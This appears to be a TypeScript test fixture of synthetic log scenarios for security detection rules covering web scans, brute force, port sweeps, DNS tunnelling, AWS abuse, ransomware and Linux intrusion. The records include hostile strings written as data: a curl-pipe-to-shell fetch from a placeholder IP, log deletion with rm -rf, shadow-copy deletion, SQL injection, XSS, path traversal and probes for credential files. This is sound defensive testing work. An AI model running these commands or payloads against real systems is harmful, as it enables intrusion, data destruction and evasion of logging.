import {
  denied,
  event,
  nginx,
  type Scenario,
  started,
  times,
  two,
  windows,
} from "./rules-scenario.ts"

export const attacks: readonly Scenario[] = [
  {
    name: "ten pages that are not there",
    rule: "web_scan",
    records: times(10, (i) => nginx(i * 5, "203.0.113.20", `GET /page${i}`, 404)),
  },
  {
    name: "one page that is not there, ten times",
    records: times(10, (i) => nginx(i * 5, "203.0.113.21", "GET /page", 404)),
  },
  {
    name: "pictures that are not there",
    records: times(12, (i) => nginx(i, "203.0.113.22", `GET /img/${i}.png`, 404)),
  },
  {
    name: "interfaces of administration",
    rule: "web_admin_scan",
    records: ["/phpmyadmin/", "/administrator/", "/solr/admin"].map((path, i) =>
      nginx(i, "203.0.113.23", `GET ${path}`, 404),
    ),
  },
  {
    name: "parts of WordPress",
    rule: "web_wordpress_scan",
    records: times(4, (i) => nginx(i, "203.0.113.24", `GET /wp-content/plugins/p${i}/a.php`, 404)),
  },
  {
    name: "files with secrets",
    rule: "web_secret_scan",
    records: ["/.env", "/.git/config", "/.aws/credentials", "/backup.sql", "/id_rsa"].map(
      (path, i) => nginx(i, "203.0.113.25", `GET ${path}`, 404),
    ),
  },
  {
    name: "what is no HTTP",
    rule: "web_protocol_probes",
    records: times(10, (i) => ({
      raw: `203.0.113.29 - - [12/Feb/2026:14:00:${10 + i} +0000] "HELP" 400 9 "-" "-"`,
      dataset: "nginx.access",
    })),
  },
  {
    name: "authors one by one",
    rule: "web_user_enumeration",
    records: times(5, (i) => nginx(i, "203.0.113.36", `GET /?author=${i}`, 404)),
  },
  {
    name: "one author again and again",
    records: times(6, (i) => nginx(i, "203.0.113.37", "GET /?author=1", 404)),
  },
  {
    name: "failed logins to a web site",
    rule: "web_login_brute_force",
    records: times(6, (i) => nginx(i * 5, "203.0.113.26", "POST /wp-login.php", 200)),
  },
  {
    name: "three kinds of attack on a web site",
    rule: "web_several_kinds_of_attack",
    records: [
      "/?id=1%20union%20select%201",
      "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
      "/?f=../../../etc/passwd",
    ].map((path, i) => nginx(i * 60, "203.0.113.27", `GET ${path}`, 200)),
  },
  {
    name: "two kinds of attack on a web site",
    records: ["/?id=1%20union%20select%201", "/?f=../../../etc/passwd"].map((path, i) =>
      nginx(i * 60, "203.0.113.28", `GET ${path}`, 200),
    ),
  },
  {
    name: "fifteen ports",
    rule: "port_scan",
    records: times(15, (i) => denied(i, "203.0.113.30", "192.0.2.1", 1000 + i)),
  },
  {
    name: "one port, fifteen times",
    records: times(15, (i) => denied(i, "203.0.113.31", "192.0.2.1", 23)),
  },
  {
    name: "one port on fifteen hosts",
    rule: "host_sweep",
    records: times(15, (i) => denied(i, "203.0.113.32", `192.0.2.${i}`, 445)),
  },
  {
    name: "names that carry data",
    rule: "dns_tunnel",
    records: times(30, (i) =>
      event(i * 10, {
        "event.dataset": "zeek.dns",
        "source.ip": "10.0.0.33",
        "dns.question.name": `${two(i)}${"a1b2c3d4".repeat(4)}.t.example.net`,
      }),
    ),
  },
  {
    name: "failed logins to the AWS console",
    rule: "aws_console_brute_force",
    records: times(5, (i) =>
      event(i * 30, {
        "event.dataset": "aws.cloudtrail",
        "event.action": "ConsoleLogin",
        "source.ip": "203.0.113.34",
        "user.name": "ines",
        "vendor.responseElements.ConsoleLogin": "Failure",
      }),
    ),
  },
  {
    name: "calls to AWS that are denied",
    rule: "aws_many_calls_denied",
    records: times(10, (i) =>
      event(i * 30, {
        "event.dataset": "aws.cloudtrail",
        "event.action": `List${i}`,
        "source.ip": "203.0.113.35",
        "vendor.errorCode": "AccessDenied",
      }),
    ),
  },
  {
    name: "signs of ransomware",
    rule: "windows_signs_of_ransomware",
    records: [
      windows(0, 1, {
        Hostname: "pc5",
        Image: "C:\\Windows\\System32\\vssadmin.exe",
        CommandLine: "vssadmin delete shadows /all",
      }),
      windows(600, 1102, { Hostname: "pc5", SubjectUserName: "mallory" }),
    ],
  },
  {
    name: "one sign of ransomware, twice",
    records: times(2, (i) =>
      windows(i * 60, 1102, { Hostname: "pc6", SubjectUserName: "mallory" }),
    ),
  },
  {
    name: "signs of an intrusion",
    rule: "linux_signs_of_intrusion",
    records: [
      started(0, "web8", "bash -c 'curl http://203.0.113.9/x | sh'"),
      started(300, "web8", "rm -rf /var/log/auth.log"),
    ],
  },
]
